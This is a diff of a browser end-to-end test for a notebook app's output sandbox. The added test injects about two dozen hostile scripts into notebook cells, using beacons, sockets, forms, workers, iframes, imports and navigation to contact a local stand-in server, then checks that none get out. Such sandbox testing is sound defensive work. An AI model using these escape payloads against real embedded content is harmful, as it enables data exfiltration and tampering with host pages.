@@ -27,9 +27,11 @@ const display = (data: { readonly [mime: string]: Leaf }): Leaf => ({
   metadata: {},
 })
 
-/** Counts what asks it for anything. */
+/** Counts what asks it for anything, or only calls. */
 let outside: Server
+let elsewhere = ''
 let asked = 0
+let called = 0
 let app: App
 let reader: Person
 
@@ -39,8 +41,9 @@ beforeAll(async () => {
     response.setHeader('Access-Control-Allow-Origin', '*')
     response.end('secret')
   })
+  outside.on('connection', () => called++)
   await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve))
-  const elsewhere = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`
+  elsewhere = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`
   const probe = `<p id="ran">no</p><script>
     const tries = {
       origin: () => self.origin,
@@ -130,6 +133,83 @@ describe('a hostile notebook', () => {
     expect(await reader.page.evaluate(() => 'hacked' in window)).toBe(false)
     expect(await reader.page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none')
     expect(asked).toBe(0)
+  })
+
+  test('finds no other way out of its frame: no address, window, form, worker, link or word to the page', async () => {
+    const ways = {
+      'its own address': `location.href = '${elsewhere}/address'`,
+      'the page in it': `location.href = '/notebook/sent.ipynb'`,
+      'the api in it': `location.href = '/api/notebooks'`,
+      'a refresh': `document.head.innerHTML += '<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">'`,
+      'a window': `window.open('${elsewhere}/window')`,
+      'the top window': `window.open('${elsewhere}/top', '_top')`,
+      'a form': `document.body.innerHTML += '<form id=f action="${elsewhere}/form"><input name=a value=b></form>'; f.submit()`,
+      'a beacon': `navigator.sendBeacon('${elsewhere}/beacon', 'b')`,
+      'a socket': `new WebSocket('${elsewhere.replace('http', 'ws')}/socket')`,
+      'the relay’s socket': `new WebSocket('${app.origin.replace('http', 'ws')}/sync/sent.ipynb')`,
+      'an event source': `new EventSource('${elsewhere}/events')`,
+      links: `for (const rel of ['prefetch', 'preconnect', 'stylesheet', 'icon', 'modulepreload', 'preload', 'manifest'])
+        document.head.append(Object.assign(document.createElement('link'), { rel, as: 'image', href: '${elsewhere}/' + rel }))`,
+      'a frame': `document.body.append(Object.assign(document.createElement('iframe'), { src: '${elsewhere}/frame' }))`,
+      'a written frame': `document.body.append(Object.assign(document.createElement('iframe'), {
+        srcdoc: '<script>fetch("${elsewhere}/srcdoc"); new Image().src = "${elsewhere}/srcdoc"</scr' + 'ipt>' }))`,
+      'a worker': `new Worker(URL.createObjectURL(new Blob(['fetch("${elsewhere}/worker")'])))`,
+      'a module': `import('${elsewhere}/module.js')`,
+      'a picture by style': `document.body.style.background = 'url(${elsewhere}/style)'`,
+      'a font': `new FontFace('f', 'url(${elsewhere}/font)').load().catch(() => 0)`,
+      media: `new Audio('${elsewhere}/audio').play().catch(() => 0)`,
+      'a dialog': `alert('x'); confirm('x'); print()`,
+      'a download': `Object.assign(document.createElement('a'), { href: 'data:,x', download: 'x' }).click()`,
+      'a huge height': `parent.postMessage({ type: 'nb-size', height: 1e9 }, '*')`,
+      'nonsense to the page': `for (const word of [null, 5, {}, { type: 'nb-ready' }, { type: 'nb-show' }]) parent.postMessage(word, '*')`,
+    }
+    const cells = Object.entries(ways).map(
+      ([way, script]) =>
+        [
+          'code',
+          way,
+          result([
+            display({
+              'text/html': `<script>document.documentElement.dataset.ran = 'yes';${script}</script>`,
+            }),
+          ]),
+        ] as const,
+    )
+    await app.create('ways.ipynb', notebookFile(...cells, ['code', '"the end"']))
+    const visitor = await app.person('ways.ipynb')
+    const { page } = visitor
+    const heard: string[] = []
+    page.on('dialog', (dialog) => heard.push(`dialog ${dialog.message()}`))
+    page.on('download', (download) => heard.push(`download ${download.suggestedFilename()}`))
+    visitor.context.on('page', (other) => heard.push(`window ${other.url()}`))
+    await visitor.until('sync', 'saved')
+    for (const position of cells.keys()) {
+      await visitor.cell(position + 1).scrollIntoViewIfNeeded()
+      await visitor
+        .output(position + 1)
+        .locator('iframe')
+        .waitFor({ state: 'attached' })
+    }
+    // By the time Python has started and run a cell, what could get out has.
+    await visitor.into(cells.length + 1)
+    await page.keyboard.press('Control+Enter')
+    await visitor.cellIs(cells.length + 1, 'done')
+    const ran = await Promise.all(
+      page.frames().map((frame) => frame.evaluate(() => document.documentElement.dataset['ran'])),
+    )
+    // Those that went for another address show what the browser says to that.
+    expect(ran.filter((word) => word === 'yes').length).toBeGreaterThan(cells.length - 5)
+    expect(heard).toEqual([])
+    expect({ asked, called }).toEqual({ asked: 0, called: 0 })
+    expect(page.url()).toBe(`${app.origin}/notebook/ways.ipynb`)
+    expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
+    const heights = await page
+      .locator('.nb-frame')
+      .evaluateAll((frames) => frames.map((frame) => frame.getBoundingClientRect().height))
+    expect(Math.max(...heights)).toBeLessThanOrEqual(20_000)
+    await visitor.type(cells.length + 1, ' # goes on')
+    await visitor.until('sync', 'saved')
+    await visitor.context.close()
   })
 
   test('is served under policies that say so', async () => {
